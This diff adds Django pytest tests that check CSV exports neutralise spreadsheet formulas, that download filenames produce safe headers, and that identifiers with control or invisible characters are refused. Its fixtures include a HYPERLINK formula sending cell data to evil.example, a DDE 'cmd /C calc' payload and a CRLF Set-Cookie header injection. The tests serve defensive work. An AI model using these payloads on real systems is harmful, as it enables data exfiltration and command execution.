@@ -404,3 +404,197 @@ def test_the_superuser_reads_an_internal_table_in_the_admin(model_label, user_in
     client = Client()
     client.force_login(user_in_role("superuser"))
     assert client.get(_changelist(model_label)).status_code == 200
+
+
+# --------------------------------------------------------------------------- CSV exports
+
+FORMULA_SKU = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    import csv
+
+    return list(csv.reader(StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),
+        ("-5", "-5"),
+        ("-1.25", "-1.25"),
+        ("+3", "+3"),
+        (-5, -5),
+        ("Servo - 7.4 V", "Servo - 7.4 V"),
+        ("", ""),
+    ],
+)
+def test_the_csv_writer_writes_formula_cells_as_text_but_keeps_plain_numbers(value, written):
+    from config.csv_io import CsvWriter, unquote_formula
+
+    assert CsvWriter.cell(value) == written
+    if isinstance(value, str):
+        assert unquote_formula(written) == value  # what the import reads back
+
+
+@pytest.mark.django_db
+def test_a_formula_sku_exported_as_bom_and_reimported_comes_back_as_the_same_sku():
+    from inventory.imports.bom import bom_import_csv
+    from inventory.imports.exports import bom_export_csv
+    from inventory.models import BomLine, Part
+    from tests.factories import AssemblyFactory, BomLineFactory, PartFactory
+
+    arm = AssemblyFactory(sku="ARM")
+    BomLineFactory(assembly=arm, component=PartFactory(sku=FORMULA_SKU, name="@name"))
+    exported = bom_export_csv(part=arm)
+    assert csv_rows(exported)[1][1] == f"'{FORMULA_SKU}"
+    BomLine.objects.all().delete()
+    Part.objects.exclude(pk=arm.pk).delete()
+    bom_import_csv(content=exported)
+    component = BomLine.objects.get().component
+    assert (component.sku, component.name) == (FORMULA_SKU, "@name")
+
+
+@pytest.mark.django_db
+def test_a_formula_sku_exported_as_parts_and_reimported_changes_nothing():
+    from inventory.imports.exports import parts_export_csv
+    from inventory.imports.parts import parts_import_csv
+    from inventory.models import Part
+    from tests.factories import PartFactory
+
+    PartFactory(sku=FORMULA_SKU, name="+name", mpn="-MPN")
+    exported = parts_export_csv(parts=Part.objects.all())
+    row = csv_rows(exported)[1]
+    assert (row[0], row[1], row[4]) == (f"'{FORMULA_SKU}", "'+name", "'-MPN")
+    assert parts_import_csv(content=exported) == {"rows": 1, "created": 0, "updated": 0}
+
+
+@pytest.mark.django_db
+def test_the_admin_planner_and_oee_csv_exports_write_formula_cells_as_text(user_in_role):
+    from analytics.oee.reports import oee_daily_report
+    from tests.factories import (
+        AssemblyFactory,
+        BomLineFactory,
+        OeeDailyFactory,
+        PartFactory,
+        ProductionLineFactory,
+    )
+
+    arm = AssemblyFactory(sku="ARM")
+    part = PartFactory(sku=FORMULA_SKU)
+    BomLineFactory(assembly=arm, component=part)
+    client = Client()
+    client.force_login(user_in_role("superuser"))
+    for action in ("export_parts_csv", "export_bom_csv"):
+        response = client.post(
+            "/admin/inventory/part/", {"action": action, "_selected_action": [arm.pk, part.pk]}
+        )
+        assert response.status_code == 200, action
+        assert f"'{FORMULA_SKU}" in sum(csv_rows(response.content.decode()), []), action
+    planner = client.get("/warehouse/planner/export.csv", {"part": arm.pk, "quantity": 1})
+    assert planner.status_code == 200
+    assert csv_rows(planner.content.decode())[1][0] == f"'{FORMULA_SKU}"
+    OeeDailyFactory(line=ProductionLineFactory(code="=1+1"))
+    _, content = oee_daily_report(
+        parameters={"date_from": "2000-01-01", "date_to": "2100-01-01"},
+        file_format="csv",
+        progress=lambda done, total: None,
+    )
+    assert csv_rows(content.decode())[1][0] == "'=1+1"
+    _, content = oee_daily_report(
+        parameters={"date_from": "2000-01-01", "date_to": "2100-01-01"},
+        file_format="xlsx",
+        progress=lambda done, total: None,
+    )
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    cell = load_workbook(BytesIO(content))["OEE"]["A2"]
+    assert (cell.value, cell.data_type) == ("=1+1", "s")  # text, not a formula
+
+
+@pytest.mark.parametrize(
+    ("filename", "fallback", "encoded"),
+    [
+        ("parts.csv", "parts.csv", "parts.csv"),
+        ('shortages-"A".csv', "shortages-_A_.csv", "shortages-%22A%22.csv"),
+        ("shortages-A\r\nSet-Cookie: x=1.csv", "shortages-ASet-Cookie__x_1.csv", None),
+        ("shortages-Zahnrad-ä.csv", "shortages-Zahnrad-a.csv", "shortages-Zahnrad-%C3%A4.csv"),
+    ],
+)
+def test_a_download_name_with_quotes_line_breaks_or_accents_makes_one_safe_header(
+    filename, fallback, encoded
+):
+    from config.csv_io import csv_response
+
+    response = csv_response(filename)
+    header = response["Content-Disposition"]
+    assert header.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
+    assert header.isascii() and "\r" not in header and "\n" not in header
+    assert header.count('"') == 2
+    if encoded:
+        assert header.endswith(encoded)
+
+
+@pytest.mark.django_db
+def test_the_planner_csv_download_for_a_sku_with_a_quote_or_line_break_answers_200(user_in_role):
+    from tests.factories import AssemblyFactory, BomLineFactory
+
+    client = Client()
+    client.force_login(user_in_role("viewer"))
+    for sku in ('ARM"1', "ARM\r\n2", "ARM-ü"):
+        arm = AssemblyFactory(sku=sku)  # an existing row, written before identifiers were checked
+        BomLineFactory(assembly=arm)
+        response = client.get("/warehouse/planner/export.csv", {"part": arm.pk, "quantity": 1})
+        assert response.status_code == 200, sku
+        assert response["Content-Disposition"].count('"') == 2
+
+
+# --------------------------------------------------------------------------- identifiers
+
+
+@pytest.mark.parametrize(
+    "char",
+    ["\r", "\n", "\x00", "\t", "\x1b", "\x7f", "\x85", "\u202a", "\u202e", "\u2066", "\u2069"]
+    + ["\u200b", "\u200c", "\u200d", "\ufeff"],
+)
+def test_an_identifier_with_a_control_bidirectional_or_zero_width_character_is_refused(char):
+    from django.core.exceptions import ValidationError
+
+    from config.validators import validate_identifier
+
+    with pytest.raises(ValidationError, match=f"U\\+{ord(char):04X}"):
+        validate_identifier(f"SKU{char}1")
+
+
+@pytest.mark.parametrize("value", ["SKU-1", "Zahnrad-ä", "螺丝 M3", "=HYPERLINK(1)", "A B/C"])
+def test_an_identifier_of_visible_characters_is_accepted(value):
+    from config.validators import validate_identifier
+
+    validate_identifier(value)
+
+
+@pytest.mark.django_db
+def test_the_admin_and_the_parts_import_refuse_a_sku_with_a_line_break(user_in_role):
+    from inventory.imports.parts import PartImportError, parts_import_csv
+    from inventory.models import Part
+
+    client = Client()
+    client.force_login(user_in_role("superuser"))
+    response = client.post(
+        "/admin/inventory/part/add/",
+        {"sku": "NEW\r\nSKU", "name": "x", "unit": "pcs", "currency": "USD", "unit_cost": "0"},
+    )
+    assert response.status_code == 200
+    assert "must not contain control characters" in response.content.decode()
+    with pytest.raises(PartImportError) as refused:
+        parts_import_csv(content='sku,name\n"NEW\r\nSKU",x\n')
+    assert "line 2: sku must not contain control characters" in str(refused.value.messages)
+    assert not Part.objects.exists()
